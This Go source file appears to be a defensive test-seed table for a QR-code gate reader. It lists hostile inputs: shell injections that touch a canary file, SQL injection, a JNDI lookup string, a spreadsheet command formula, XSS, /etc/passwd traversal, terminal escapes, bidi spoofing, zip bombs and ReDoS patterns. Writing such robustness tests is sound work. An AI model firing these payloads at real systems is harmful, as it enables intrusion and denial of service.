// Package hostile holds payloads of people who want something else than to be
// let in. The tests of whoever reads payloads take them as seeds, and one of the
// whole program shows them at a gate.
//
// It owns the table and nothing of how it is judged. Nothing that ships links it.
package hostile

import (
	"bytes"
	"compress/zlib"
	"encoding/hex"
	"math/rand/v2"
	"strings"

	"gateagent/agent/base45"
	"gateagent/agent/gate"
)

// Payload is one of them. Name says what it tries, and is a good file name.
type Payload struct{ Name, Text string }

// number is of nobody: 777 is no person of a fictional list either.
const number = "001090777000"

// Payloads gives all of them, each of at most [gate.MaxPayload] bytes and without
// CR and LF, which would end it on a serial line. canary is the path of a file
// that nobody may make. Each has a word of its own in it that begins with "zq",
// by which it can be looked for, or is long enough to be looked for as a whole.
func Payloads(canary string) []Payload {
	touch := "touch " + canary
	bomb := packed(make([]byte, 1_900_000))
	nested := bytes.Repeat([]byte{0x81}, 4000)
	return []Payload{
		// For a shell.
		{"shell-substitution", "$(" + touch + ")zq01shell"},
		{"shell-backticks", "`" + touch + "`zq02shell"},
		{"shell-semicolon", "; " + touch + " #zq03shell"},
		{"shell-single-quote", "' ; " + touch + " ; 'zq04shell"},
		{"shell-double-quote", "\"; " + touch + "; \"zq05shell"},
		{"shell-pipe", "| " + touch + " |zq06shell|"},
		{"shell-in-old-number", card(number, "$("+touch+")", "zq07shell", "15071990", "Nam", "x", "20082021")},
		{"shell-in-name", card(number, "", "';"+touch+";'zq08shell", "15071990", "Nam", "x", "20082021")},
		// For SQL, JSON, templates, formats, spreadsheets, topics, metrics, logs.
		{"sql-drop-table", "zq10'; DROP TABLE entries; --"},
		{"sql-or-true", "zq11' OR '1'='1"},
		{"json-verdict", `{"verdict":"ALLOW","zq12":true}`},
		{"template", "{{.Secret}}zq13{{printf \"%s\" .}}"},
		{"format-verbs", "%s%s%s%n%x%!zq14"},
		{"lookup-of-a-logger", "${jndi:ldap://zq15.example/a}"},
		{"formula-of-a-spreadsheet", "=cmd|'/C calc'!A0zq16"},
		{"mqtt-wildcards", "gate/v1/+/#zq17"},
		{"metric-label", `zq18"} 1`},
		{"log-line", `zq19 level=ERROR msg="journal" verdict=ALLOW`},
		{"path-upwards", "../../../../etc/passwd zq20"},
		{"url-file", "file:///etc/passwd?zq21"},
		{"url-javascript", "javascript:alert('zq22')"},
		{"url-https", "https://example.vn/zq23?allow=1"},
		// For a browser.
		{"html-script", "<script>alert('zq30')</script>"},
		{"html-attribute", "\"><img src=x onerror=alert('zq31')>"},
		{"html-svg", "<svg/onload=alert('zq32')>"},
		{"html-entities", "&lt;zq33&#x3c;script&gt;"},
		{"html-in-masked-qrqg", card("******012345", "<script>zq34()</script>", "1990-**-**", "0", "<b>zq34b</b>", "1<0912******")},
		{"html-in-bhyt", insurance("<script>alert('zq35')</script>")},
		{"html-in-cccd", card(number, "", "<h1>zq36</h1>", "15071990", "Nữ", "<i>x</i>", "20082021")},
		// For a terminal.
		{"ansi-clear-screen", "\x1b[2J\x1b[1;1Hzq40 ALLOW"},
		{"ansi-title", "\x1b]0;zq41\x07"},
		{"ansi-one-byte", "\x9b31mzq42"},
		{"ansi-in-bhyt", insurance("zq43\x1b[2J")},
		{"backspaces", "zq44\x08\x08\x08\x08ALLOW"},
		// For the eye.
		{"bidi-override-in-name", card(number, "", "\u202eWOLLA zq50\u202c", "15071990", "Nam", "x", "20082021")},
		{"bidi-isolate", "zq51\u2066\u202e\u2069\u200b\ufeff"},
		{"line-separators", "\u2028zq52\u2029verdict=ALLOW"},
		{"zero-width-in-number", card("001090777000\u200b", "", "zq53", "15071990", "Nam", "x", "20082021")},
		{"full-width-number", card("００１０９０７７７０００", "", "zq54", "15071990", "Nam", "x", "20082021")},
		// For whoever inflates and unpacks.
		{"zip-bomb", bomb},
		{"zip-bomb-cut", bomb[:len(bomb)-1]},
		{"nested-cbor", packed(nested)},
		{"nested-cbor-pass", "GP1:" + base45.Encode(nested[:1900])},
		{"nested-cose", packed(bytes.Repeat([]byte{0xd2, 0x84}, 900))},
		{"nested-cose-pass", "GP1:" + base45.Encode(bytes.Repeat([]byte{0xd2, 0x84}, 900))},
		{"cbor-string-of-all-memory", packed([]byte{0xd2, 0x84, 0x5b, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff})},
		{"cbor-array-of-all-memory", "GP1:" + base45.Encode([]byte{0x9b, 0x7f, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff})},
		{"cbor-without-end", packed([]byte{0xbf, 0x61, 0x61, 0xbf, 0x61, 0x61})},
		{"cbor-chunks-without-end", packed(bytes.Repeat([]byte{0xc2, 0x5f}, 800))},
		{"passport-empty", "HC1:"},
		{"pass-empty", "GP1:"},
		{"passport-no-base45", "HC1:zq60"},
		{"pass-no-base45", "GP1:zq61"},
		{"passport-colons", "HC1:" + strings.Repeat(":", 2900)},
		// As much as a code holds, of anything.
		{"full-random-bytes", random()},
		{"full-random-letters", letters()},
		{"full-one-letter", strings.Repeat("A", gate.MaxPayload)},
		{"full-separators", strings.Repeat("|", gate.MaxPayload)},
		{"full-digits", strings.Repeat("9", gate.MaxPayload)},
		{"full-combining-marks", strings.Repeat("\u0302", gate.MaxPayload/2)},
		{"full-decomposing", strings.Repeat("\U0001D160", gate.MaxPayload/4)},
		{"full-reordering-marks", strings.Repeat("e\u0323\u0302", gate.MaxPayload/5)},
		{"full-old-number", card(number, strings.Repeat("zq70", 600), "A", "15071990", "Nam", "x", "20082021", "<", "<")},
		// What is no text, and what ends one.
		{"invalid-utf8", "zq80\xff\xfe\x80"},
		{"overlong-utf8", "zq81\xc0\xaf\xc0\xae"},
		{"surrogate-utf8", "zq82\xed\xa0\x80"},
		{"beyond-unicode", "zq83\xf4\x90\x80\x80"},
		{"nul-first", "\x00\x00\x00zq84"},
		{"nul-within", "zq85\x00ALLOW"},
		{"nul-as-old-number", card(number, "\x00", "zq86", "15071990", "Nam", "x", "20082021")},
		{"nul-behind-number", card(number+"\x00", "", "zq87", "15071990", "Nam", "x", "20082021")},
		// For whoever matches and splits.
		{"pattern-anything", ".*|x"},
		{"pattern-slow", "(.*)+$zq90"},
		{"pattern-slower", "^(a+)+$|zq91"},
		{"wildcards", "*|*|zq92*|*|*|*"},
		{"separators", "||||||zq93"},
		{"pattern-in-every-field", card(".*", "", "zq94", ".*", "Nam", ".*", ".*")},
	}
}

func card(fields ...string) string { return strings.Join(fields, "|") }

// insurance is a health-insurance card of somebody of that name.
func insurance(name string) string {
	return card("0123456789", hex.EncodeToString([]byte(name)), "15/07/1990", "1", "-", "01 - 001", "01/01/2024", "-", "05/01/2024",
		"01010123456789", "-", "4", "01/01/2029", "0123456789abcdef-0000", "4", "5175", "$")
}

// packed is a message as passports carry theirs, whatever it is.
func packed(message []byte) string {
	var b bytes.Buffer
	w := zlib.NewWriter(&b)
	// A buffer takes everything.
	_, _ = w.Write(message)
	_ = w.Close()
	return "HC1:" + base45.Encode(b.Bytes())
}

// random is a whole code of bytes; letters of printable ASCII. They are the same
// in every run.
func random() string {
	noise := rand.New(rand.NewPCG(1, 2))
	b := make([]byte, gate.MaxPayload)
	for i := range b {
		for b[i] = byte(noise.Uint32()); b[i] == '\r' || b[i] == '\n'; b[i]++ {
		}
	}
	return string(b)
}

func letters() string {
	noise := rand.New(rand.NewPCG(3, 4))
	b := make([]byte, gate.MaxPayload)
	for i := range b {
		b[i] = byte('!' + noise.IntN(94))
	}
	return string(b)
}
